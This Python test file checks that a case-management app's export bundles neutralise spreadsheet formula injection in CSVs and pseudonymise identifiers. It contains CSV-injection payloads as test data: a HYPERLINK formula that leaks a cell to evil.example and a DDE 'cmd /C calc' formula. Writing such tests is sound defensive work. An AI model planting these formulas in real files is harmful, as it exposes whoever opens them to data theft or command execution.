"""Spreadsheet formulas that suspects (or a downloader's browser) choose are neutralised in
every CSV of a bundle, JSON keeps them exact; a pseudonymised bundle replaces every identifying
value with a keyed pseudonym that stays the same throughout the bundle."""

import csv
import io
import json
import zipfile

from accounts.models import CaseAccount
from evidence.models import CustodyEvent, Evidence
from evidence.services import evidence_add
from tests.exports.conftest import build, bundle_file
from tests.factories import AccountAttributeFactory, AccountFactory, SignalFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def _files(export) -> dict[str, bytes]:
    with zipfile.ZipFile(bundle_file(export)) as archive:
        return {i.filename.split("/", 1)[1]: archive.read(i) for i in archive.infolist()}


def _rows(files, name) -> list[dict]:
    return list(csv.DictReader(io.StringIO(files[name].decode())))


def _downloaded(evidence, *, user_agent, ip="192.0.2.44", actor="larry"):
    CustodyEvent.objects.create(
        evidence=evidence, action="downloaded", actor_label=actor, ip=ip, user_agent=user_agent
    )


def test_formula_cells_are_neutralised_in_every_csv_and_exact_in_json(
    case_with_material, alice, larry
):
    account = AccountFactory(name=HYPERLINK, organisation=CALC)
    CaseAccount.objects.create(case=case_with_material, account=account, role="linked")
    SignalFactory(case=case_with_material, summary=HYPERLINK)
    evidence, _ = evidence_add(
        case=case_with_material, user=alice, chunks=[b"x"], original_name="x.txt", source="=1+2"
    )
    _downloaded(evidence, user_agent="=1+2")
    _downloaded(evidence, user_agent="\tcmd", ip="192.0.2.45")
    files = _files(build(case_with_material, larry))
    accounts = {r["external_id"]: r for r in _rows(files, "data/accounts.csv")}
    assert accounts[account.external_id]["name"] == "'" + HYPERLINK
    assert accounts[account.external_id]["organisation"] == "'" + CALC
    agents = {r["user_agent"] for r in _rows(files, "data/custody.csv")}
    assert {"'=1+2", "'\tcmd"} <= agents
    for name in ("data/accounts.csv", "data/custody.csv"):
        for row in csv.reader(io.StringIO(files[name].decode())):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # JSON is data, not a spreadsheet: the values stay exactly what was recorded.
    signals = [json.loads(line) for line in files["data/signals.jsonl"].decode().splitlines()]
    assert HYPERLINK in [s["summary"] for s in signals]
    sources = [e["source"] for e in json.loads(files["data/case.json"])["evidence"]]
    assert "=1+2" in sources


def test_pseudonyms_cover_identifiers_staff_and_custody_and_keep_links(case_with_material, larry):
    first, second = (
        CaseAccount.objects.filter(case=case_with_material).order_by("pk").select_related("account")
    )
    shared = {"payment_fingerprint": "pf_shared_4242", "ip": "198.51.100.77"}
    for link in (first, second):
        for kind, value in shared.items():
            AccountAttributeFactory(account=link.account, type=kind, value=value)
    AccountAttributeFactory(account=first.account, type="device_fingerprint", value="dv_9911ab")
    AccountAttributeFactory(account=first.account, type="phone", value="+44 20 7946 0958")
    AccountAttributeFactory(account=second.account, type="org_id", value="org_harvest_77")
    AccountAttributeFactory(account=second.account, type="asn", value="AS64500")
    SignalFactory(case=case_with_material, payload={"src_ip": "198.51.100.77", "seen": "dv_9911ab"})
    evidence = Evidence.objects.filter(case=case_with_material).first()
    _downloaded(evidence, user_agent="Mozilla/5.0 (X11; Linux) Firefox/140.0", actor="larry")
    export = build(case_with_material, larry, pseudonymise=True)
    files = _files(export)
    secrets = [
        "pf_shared_4242", "198.51.100.77", "dv_9911ab", "+44 20 7946 0958", "org_harvest_77",
        "192.0.2.44", "Firefox/140.0", "larry",
    ]  # fmt: skip
    for name, content in files.items():
        if name.startswith("data/") and name != "data/timeline.jsonl":
            for secret in secrets:
                assert secret.encode() not in content, (secret, name)
    rows = _rows(files, "data/accounts.csv")
    attributes = [dict(a.split("=", 1) for a in r["attributes"].split(";")) for r in rows]
    payments = {a["payment_fingerprint"] for a in attributes if "payment_fingerprint" in a}
    assert len(payments) == 1 and payments.pop().startswith("payment_fingerprint-")
    assert attributes[1]["asn"] == "AS64500"  # infrastructure, not a person: kept
    ip_token = {a["ip"] for a in attributes if "ip" in a}
    signals = [json.loads(line) for line in files["data/signals.jsonl"].decode().splitlines()]
    assert any(s["payload"].get("src_ip") in ip_token for s in signals)  # the link survives
    custody = _rows(files, "data/custody.csv")
    downloaded = [r for r in custody if r["action"] == "downloaded"][0]
    assert downloaded["actor"].startswith("staff-")
    assert downloaded["ip"].startswith("ip-") and downloaded["user_agent"].startswith("agent-")
    record = json.loads(files["data/case.json"])
    assert record["export"]["requested_by"].startswith("staff-")
